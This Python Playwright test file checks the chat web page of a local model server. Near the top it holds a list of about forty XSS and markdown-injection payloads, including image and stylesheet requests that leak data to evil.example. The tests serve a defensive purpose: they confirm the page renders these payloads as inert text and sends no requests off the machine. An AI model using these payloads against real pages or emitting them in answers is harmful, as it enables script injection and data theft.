"""The web page in Chromium: it chats with a model that says given texts."""

import json
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from conftest import TINY
from scripted_model import scripted_sampler
from serving import Live, serve

from flashmoe_mlx.generation import sequence as sequence_module
from flashmoe_mlx.made_models.synthetic import synthetic_pack
from flashmoe_mlx.server.middleware import Policy

pytestmark = pytest.mark.browser
ATTACKS = (
    "<script>boom()</script>",
    "<img src=x onerror=boom()>",
    "<svg onload=boom()><animate onbegin=boom() attributeName=x dur=1s>",
    "<iframe srcdoc='<script>parent.boom()</script>'></iframe>",
    "<a href='javascript:boom()'>link</a>",
    "[link](javascript:boom())",
    "[link](JaVaScRiPt&#58;boom())",
    "[link](&#x6A;avascript:boom())",
    "[link](data:text/html,<script>boom()</script>)",
    "[link](vbscript:boom())",
    "<javascript:boom()>",
    "[ref]\n\n[ref]: javascript:boom()",
    "![i](javascript:boom())",
    '![i](x"onerror="boom())',
    "![leak](https://evil.example/?q=secret)",
    "![leak][r]\n\n[r]: https://evil.example/image.png",
    "<style>@import 'https://evil.example/x.css'; * { background: url(https://evil.example/) }</style>",
    "<link rel=stylesheet href=https://evil.example/x.css><link rel=dns-prefetch href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example><button autofocus>send</button></form>",
    "<details open ontoggle=boom()>x</details>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=boom()&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=boom()>'>",
    "<video autoplay src=https://evil.example/v.mp4 onloadstart=boom()></video>",
    "<object data=https://evil.example></object><embed src=https://evil.example>",
    '```html"onmouseover="boom()\n<script>boom()</script>\n```',
    "```<img/src=x/onerror=boom()>\nx\n```",
    "`<img src=x onerror=boom()>`",
    "| <img src=x onerror=boom()> | b |\n| - | - |\n| <script>boom()</script> | [x](javascript:boom()) |",
    '[x](https://a.example "title\\" onmouseover=\\"boom()")',
    "<input name=nodes id=transcript autofocus onfocus=boom()>",
    "<p id=composer style='position:fixed;inset:0;background:red'>over all</p>",
    "<br><br/ onclick=boom()>",
    "- [ ] <img src=x onerror=boom()>\n- [x] done",
    "# <img src=x onerror=boom()>",
    "<!-- --><script>boom()</script><!-- -->",
    "\x3cimg src=x onerror\x0b=boom()\x3e \u202e\u2028<script\u2028>boom()</script>",
    "https://evil.example/<script>boom()</script>",
    '<https://evil.example/"onmouseover="boom()>',
)
ANSWERS = {
    "user": "I have no answer.",
    "hello": "Hello, **world**!\n\n# Title\n\n- one\n- two\n\n```python\nprint('hi')\n```\n",
    "unicode": "é, 中文, \N{PARTY POPPER} and a\u0301",
    "table": "| a | b |\n| :- | -: |\n| 1 | 2 |\n\n"
    "[site](https://example.org/x) [there](/v1/models) [late]\n\n[late]: https://late.example/",
    "ponder": "<think>\nLet me see.\n</think>\n\nDone.",
    "slowly": "first second " * 20,
    "weather": "<tool_call>\n<function=weather>\n"
    "<parameter=place>\nCorrow <b>\n</parameter>\n</function>\n</tool_call>",
    "sunny in Corrow": "It is sunny there.",
} | {f"attack{number:02}": text for number, text in enumerate(ATTACKS)}
PLACE = {"type": "object", "properties": {"place": {"type": "string"}}, "required": ["place"]}
WEATHER = [{"type": "function", "function": {"name": "weather", "parameters": PLACE}}]


@pytest.fixture(scope="module")
def pack(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Path]:
    """Return a pack whose model says ``ANSWERS``."""
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(sequence_module, "Sampler", scripted_sampler(ANSWERS))
        yield synthetic_pack("long", replace(TINY, max_context=32768), tmp_path_factory.mktemp("page")).folder


@pytest.fixture(scope="module")
def scripted(pack: Path) -> Iterator[Live]:
    """Serve the model of ``pack``."""
    with serve(pack) as running:
        yield running


class Tab:
    """A tab of a new browser profile, which records requests, errors and attacks that succeed."""

    def __init__(self, browser: Any, url: str, **options: Any) -> None:
        self.context = browser.new_context(**options)
        self.hosts: set[str] = set()
        self.problems: list[str] = []
        self.context.on("request", lambda request: self.hosts.add(request.url.split("/")[2].split(":")[0]))
        self.context.expose_function("boom", lambda: self.problems.append("an attack ran"))
        self.page = self.add(url)

    def add(self, url: str) -> Any:
        """Open another tab of the same profile."""
        page = self.context.new_page()
        page.set_default_timeout(20_000)
        page.on("pageerror", lambda error: self.problems.append(str(error)))
        page.on("console", self._note)
        page.goto(url)
        page.locator("#model", has_text="demo").wait_for(state="attached")
        return page

    def _note(self, message: Any) -> None:
        if message.type == "error" and "/observatory/" not in message.location["url"]:
            self.problems.append(message.text)

    def ask(self, text: str, *, page: Any = None) -> Any:
        """Send a question and return the element of its complete answer."""
        page = page or self.page
        count = page.locator("article.assistant").count()
        page.get_by_role("textbox", name="Question").fill(text)
        page.keyboard.press("Enter")
        return self.answer(count, page=page)

    def answer(self, number: int, *, page: Any = None) -> Any:
        """Wait until answer ``number`` is complete, and return its element."""
        answer = (page or self.page).locator("article.assistant").nth(number)
        answer.locator("xpath=self::*[@aria-busy='false']").wait_for()
        return answer

    def button(self, name: str, inside: Any = None) -> Any:
        """Return the last button with a name."""
        return (inside or self.page).get_by_role("button", name=name, exact=True).last

    def close(self) -> None:
        """Close the profile; nothing may have failed, and no request may have left the machine."""
        self.context.close()
        assert self.problems == []
        assert self.hosts == {"127.0.0.1"}


@pytest.fixture
def tab(browser: Any, scripted: Live) -> Iterator[Tab]:
    opened = Tab(browser, scripted.url)
    yield opened
    opened.close()


def test_a_chat(tab: Tab) -> None:
    answer = tab.ask("hello")
    body = answer.locator(".markdown")
    assert body.locator("strong").inner_text() == "world"
    assert body.locator("h3").inner_text() == "Title"
    assert body.locator("li").all_inner_texts() == ["one", "two"]
    assert body.locator("pre").inner_text() == "print('hi')\n"
    assert body.locator(".code-bar span").inner_text() == "python"
    assert "tokens" in answer.locator(".figures").inner_text()
    assert tab.ask("unicode").locator(".markdown").inner_text() == ANSWERS["unicode"]
    assert tab.page.locator("article").count() == 4
    assert tab.page.locator("#announcements").inner_text() == ANSWERS["unicode"]
    assert tab.page.title().startswith("hello")


def test_links_and_tables(tab: Tab) -> None:
    body = tab.ask("table").locator(".markdown")
    assert body.locator("td").last.evaluate("(cell) => getComputedStyle(cell).textAlign") == "right"
    links = body.locator("a").evaluate_all("(all) => all.map((one) => [one.href, one.target, one.rel])")
    safe = ["_blank", "noopener noreferrer nofollow"]
    assert links == [["https://example.org/x", *safe], ["https://late.example/", *safe]]
    assert "there" in body.inner_text()  # a link into the server is text


def test_thinking_is_folded(tab: Tab) -> None:
    answer = tab.ask("ponder")
    assert answer.locator(".markdown").inner_text() == "Done."
    summary = answer.locator("summary")
    assert "Thought for" in summary.inner_text()
    assert not answer.locator(".thinking p").is_visible()
    summary.focus()
    tab.page.keyboard.press("Enter")
    answer.locator(".thinking p", has_text="Let me see.").wait_for()


def test_stop_keeps_what_came(tab: Tab, scripted: Live) -> None:
    tab.page.get_by_role("textbox", name="Question").fill("slowly")
    tab.button("Send").click()
    tab.page.locator(".markdown", has_text="first second first").wait_for()
    tab.page.keyboard.press("Escape")
    answer = tab.answer(0)
    scripted.wait_idle()
    kept = answer.locator(".markdown").inner_text()
    assert ANSWERS["slowly"].startswith(kept)
    assert len(kept) < len(ANSWERS["slowly"])
    assert answer.locator(".note").inner_text() == "Stopped."
    tab.page.reload()
    assert tab.answer(0).locator(".markdown").inner_text() == kept
    assert "Done." in tab.ask("ponder").inner_text()  # the conversation goes on


def test_a_question_that_was_stopped_before_its_answer_returns(tab: Tab) -> None:
    held: list[Any] = []
    tab.page.route("**/v1/chat/completions", lambda route: held.append(route))  # no answer comes
    tab.page.get_by_role("textbox", name="Question").fill("hello there")
    tab.page.keyboard.press("Enter")
    tab.button("Stop").click()
    tab.page.get_by_text("Ask the model something.").wait_for()
    assert tab.page.get_by_role("textbox", name="Question").input_value() == "hello there"
    tab.page.unroute_all(behavior="ignoreErrors")


def set_tools(tab: Tab) -> None:
    tab.button("Settings").click()
    tab.page.get_by_label("Tools", exact=True).fill(json.dumps(WEATHER))
    tab.button("Save").click()


def test_a_call_is_shown_and_its_result_given(tab: Tab) -> None:
    set_tools(tab)
    answer = tab.ask("weather")
    assert answer.locator(".call code").inner_text() == "weather"
    assert json.loads(answer.locator(".call pre").inner_text()) == {"place": "Corrow <b>"}
    tab.page.get_by_label("Result of weather").fill("sunny in Corrow")
    tab.button("Send results").click()
    assert tab.answer(1).locator(".markdown").inner_text() == "It is sunny there."
    tab.page.reload()
    assert tab.answer(1).locator(".markdown").inner_text() == "It is sunny there."
    assert tab.page.locator("article.tool pre").text_content() == "sunny in Corrow"


def test_settings_reach_the_server_and_stay(tab: Tab) -> None:
    tab.button("Settings").click()
    tab.page.get_by_label("Tools", exact=True).fill("[1")
    tab.button("Save").click()
    assert tab.page.locator("dialog").is_visible()  # the browser shows what is wrong
    tab.page.get_by_label("Tools", exact=True).fill("")
    tab.page.get_by_label("System message").fill("Be brief.")
    tab.page.get_by_label("Thinking").select_option("Off")
    tab.page.get_by_label("Temperature").fill("0.5")
    tab.page.get_by_label("Seed").fill("7")
    tab.button("Save").click()
    with tab.page.expect_request("**/v1/chat/completions") as sent:
        tab.ask("hello")
    body = sent.value.post_data_json
    assert body["messages"] == [{"role": "system", "content": "Be brief."}, {"role": "user", "content": "hello"}]
    assert (body["temperature"], body["seed"]) == (0.5, 7)
    assert body["chat_template_kwargs"] == {"enable_thinking": False}
    assert "top_p" not in body
    tab.page.reload()
    tab.button("Settings").click()
    assert tab.page.get_by_label("Temperature").input_value() == "0.5"
    tab.page.get_by_label("Colors of the page").select_option("Dark")
    tab.button("Save").click()
    assert tab.page.evaluate("() => getComputedStyle(document.body).backgroundColor") == "rgb(21, 23, 28)"


def test_retry_and_edit_keep_the_earlier_versions(tab: Tab) -> None:
    tab.ask("hello")
    tab.button("Retry").click()
    tab.page.locator("article.assistant .place", has_text="2 of 2").wait_for()
    tab.page.locator("article.user").get_by_role("button", name="Edit").click()
    tab.page.locator("article.user textarea").fill("unicode")
    tab.button("Ask again").click()
    tab.page.locator("article.assistant", has_text="中文").wait_for()
    assert tab.page.locator("article").count() == 2
    tab.button("Earlier version", tab.page.locator("article.user")).click()
    tab.page.locator("article.assistant", has_text="world").wait_for()
    assert tab.page.locator("article.assistant .place").inner_text() == "2 of 2"
    tab.page.reload()
    assert "world" in tab.answer(0).inner_text()


def test_two_conversations_are_answered_at_once_and_survive_a_reload(tab: Tab) -> None:
    tab.page.get_by_role("textbox", name="Question").fill("slowly one")
    tab.page.keyboard.press("Enter")
    tab.page.locator(".markdown", has_text="first").wait_for()
    tab.button("New conversation").click()
    assert "world" in tab.ask("hello two").inner_text()
    assert tab.page.locator("#conversations .busy").count() == 1
    tab.page.get_by_role("textbox", name="Question").fill("a draft")
    tab.button("slowly one").click()
    assert tab.answer(0).locator(".markdown").inner_text().split() == ANSWERS["slowly"].split()
    tab.page.reload()
    assert tab.answer(0).locator(".markdown").inner_text().split() == ANSWERS["slowly"].split()
    tab.button("hello two").click()
    assert tab.page.get_by_role("textbox", name="Question").input_value() == "a draft"
    tab.page.once("dialog", lambda dialog: dialog.accept("Renamed"))
    tab.button("Rename “hello two”").click()
    assert tab.page.locator("h1").inner_text() == "Renamed"
    tab.page.once("dialog", lambda dialog: dialog.accept())
    tab.button("Delete “Renamed”").click()
    tab.page.locator("h1", has_text="slowly one").wait_for()
    tab.page.reload()
    tab.page.locator("#conversations li").wait_for()
    assert tab.page.locator("#conversations li").count() == 1


def test_an_answer_that_a_reload_cuts_is_kept(tab: Tab) -> None:
    tab.page.get_by_role("textbox", name="Question").fill("slowly")
    tab.page.keyboard.press("Enter")
    tab.page.locator(".markdown", has_text="first second first").wait_for()
    tab.page.reload()
    answer = tab.answer(0)
    assert answer.locator(".note").inner_text() == "The page was closed before the answer was complete."
    tab.button("Retry").click()
    tab.button("Stop").click()


def test_two_tabs_lose_nothing(tab: Tab, scripted: Live) -> None:
    tab.ask("hello")
    other = tab.add(scripted.url)
    tab.answer(0, page=other)
    tab.ask("unicode")
    tab.answer(1, page=other)  # the other tab follows
    assert "中文" in other.locator("article.assistant").nth(1).inner_text()
    script = """async (id) => {
        const { Store } = await import("/web/store.js");
        const store = await Store.open();
        const [mine] = await store.all();
        const theirs = structuredClone(mine);
        mine.title = "first";
        theirs.title = "second";
        await store.save(mine);
        await store.save(theirs);
        return (await store.all()).map((one) => one.title).sort();
    }"""
    assert other.evaluate(script) == ["first", "second (copy)"]


def test_markup_of_models_and_users_is_text(tab: Tab) -> None:
    asked = range(0, len(ATTACKS), 5)
    for number in asked:
        answer = tab.ask(f"{ATTACKS[number]}\nattack{number:02}")
        for link in answer.locator("a").all():
            assert link.get_attribute("href").startswith("https://")
            link.hover()
    check_elements(tab)
    assert tab.page.locator("article.user .body").all_text_contents() == [
        f"{ATTACKS[number]}\nattack{number:02}" for number in asked
    ]
    tab.page.reload()
    tab.answer(len(asked) - 1)
    check_elements(tab)


def test_markup_is_text_at_each_moment_of_its_arrival(tab: Tab) -> None:
    script = """async (text) => {
        const { MarkdownView } = await import("/web/markdown.js");
        const target = document.createElement("div");
        target.className = "markdown";
        document.querySelector("#transcript").replaceChildren(target);
        const view = new MarkdownView(target);
        const found = new Set();
        const add = (one) => found.add(one.tagName + " " + one.getAttributeNames());
        const elements = () => target.querySelectorAll("*").forEach(add);
        for (let end = 1; end <= text.length; end++) {
            view.update(text.slice(0, end));
            elements();
        }
        view.update(text, true);
        elements();
        await new Promise((resolve) => setTimeout(resolve, 5)); // for what an attack has begun
        const links = [...target.querySelectorAll("a")].map((link) => link.href);
        return [[...found], links];
    }"""
    for attack in ATTACKS:
        found, links = tab.page.evaluate(script, attack)
        check_names([(tag, names.split(",")) for tag, names in (one.split(" ") for one in found)])
        assert all(link.startswith("https://") for link in links)


def test_marks_wait_for_the_next_character(tab: Tab) -> None:
    script = """async (text) => {
        const { MarkdownView } = await import("/web/markdown.js");
        const target = document.createElement("div");
        const view = new MarkdownView(target);
        return Array.from(text, (_, end) => { view.update(text.slice(0, end + 1)); return target.innerHTML; });
    }"""
    shown = tab.page.evaluate(script, "a **bold** word\n- item\n")
    assert not [html for html in shown if "<em>" in html or "<h" in html]
    assert "<strong>bold</strong> word" in shown[-1]
    assert "<li>item</li>" in shown[-1]


def check_elements(tab: Tab) -> None:
    """Check that messages consist of harmless elements with harmless attributes."""
    script = """(all) => all.flatMap((body) => [...body.querySelectorAll("*")])
        .map((one) => [one.tagName, one.getAttributeNames()])"""
    elements = tab.page.locator(".markdown, article.user .body").evaluate_all(script)
    assert len(elements) > 10
    check_names(elements)


def check_names(elements: list[tuple[str, list[str]]]) -> None:
    """Check the names of elements and of their attributes."""
    tags = "P CODE PRE A BR UL LI H3 TABLE THEAD TBODY TR TH TD DIV SPAN BUTTON"
    attributes = "class href target rel title tabindex type role aria-label data-language data-label"
    assert {tag for tag, _ in elements} <= set(tags.split())
    assert {name for _, names in elements for name in names} <= {"", *attributes.split()}


def test_a_text_that_markdown_cannot_take_is_shown_as_it_is(tab: Tab) -> None:
    script = """async (text) => {
        const { MarkdownView } = await import("/web/markdown.js");
        const target = document.createElement("div");
        new MarkdownView(target).update(text, true);
        return target.textContent;
    }"""
    for text in ("> " * 5000 + "deep", "*a **b " * 300, "[" * 3000 + "deep", "- " * 3000 + "deep"):
        assert text.split()[-1] in tab.page.evaluate(script, text)


def test_every_width_shows_all(tab: Tab) -> None:
    tab.ask("hello")
    tab.ask("table " + "unbroken" * 60)
    for width in (360, 820, 1600):
        tab.page.set_viewport_size({"width": width, "height": 700})
        tab.page.reload()
        tab.answer(1)
        assert tab.page.evaluate("() => document.scrollingElement.scrollWidth <= innerWidth")
        assert tab.page.locator("#conversations").is_visible() == (width == 1600)
        if width < 1600:
            tab.button("Conversations").click()
            assert tab.page.locator("#conversations").is_visible()
            tab.page.keyboard.press("Escape")
            assert not tab.page.locator("#conversations").is_visible()
            assert tab.page.evaluate("() => document.activeElement.id") == "toggle-conversations"


def test_the_key_is_asked_for_and_ends_with_the_tab(browser: Any, pack: Path) -> None:
    with serve(pack, Policy((b"secret",))) as guarded:
        context = browser.new_context()
        page = context.new_page()
        page.goto(guarded.url)
        page.get_by_role("textbox", name="Key").fill("wrong")
        page.get_by_role("button", name="Use this key").click()
        page.get_by_text("The server refused this key.").wait_for()
        page.get_by_role("textbox", name="Key").fill("secret")
        page.get_by_role("button", name="Use this key").click()
        page.locator("#model", has_text="demo").wait_for()
        page.get_by_role("textbox", name="Question").fill("hello")
        page.keyboard.press("Enter")
        page.locator("article.assistant", has_text="world").wait_for()
        page.reload()
        page.locator("#model", has_text="demo").wait_for()
        assert "secret" not in page.evaluate("() => JSON.stringify({...localStorage})")
        second = context.new_page()
        second.goto(guarded.url)
        second.get_by_role("button", name="Cancel").click()
        second.get_by_text("The server refuses this page").wait_for()
        context.close()


def test_errors_of_the_server_are_shown(tab: Tab) -> None:
    tab.page.route("**/v1/chat/completions", lambda route: route.fulfill(body='data: {"choices": []}\n\n'))
    assert "the connection ended before the answer was complete" in tab.ask("hello").inner_text()
    tab.page.unroute("**/v1/chat/completions")
    tab.page.route("**/v1/chat/completions", lambda route: route.abort())
    tab.button("Retry").click()
    tab.page.locator(".note", has_text="the server cannot be reached").wait_for()
    tab.page.unroute("**/v1/chat/completions")
    tab.button("Retry").click()
    tab.page.locator("article.assistant", has_text="world").wait_for()
    tab.problems = [problem for problem in tab.problems if "ERR_FAILED" not in problem]
